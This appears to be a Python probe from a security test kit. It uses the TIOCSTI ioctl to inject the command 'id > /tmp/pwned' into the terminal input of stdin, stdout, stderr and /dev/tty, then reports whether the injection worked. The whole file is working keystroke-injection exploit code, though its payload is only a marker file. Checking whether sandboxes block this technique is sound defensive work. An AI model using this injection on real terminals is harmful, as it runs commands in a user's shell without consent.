import fcntl
import os
import termios

import hostile_kit


def _inject(fd):
    for ch in b"id > /tmp/pwned\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
    return "injected"


def _tty():
    fd = os.open("/dev/tty", os.O_RDWR)
    try:
        return _inject(fd)
    finally:
        os.close(fd)


def attack(token):
    results = {str(fd): hostile_kit.outcome(lambda fd=fd: _inject(fd)) for fd in (0, 1, 2)}
    results["/dev/tty"] = hostile_kit.outcome(_tty)
    hostile_kit.report(tiocsti=results)
    return results
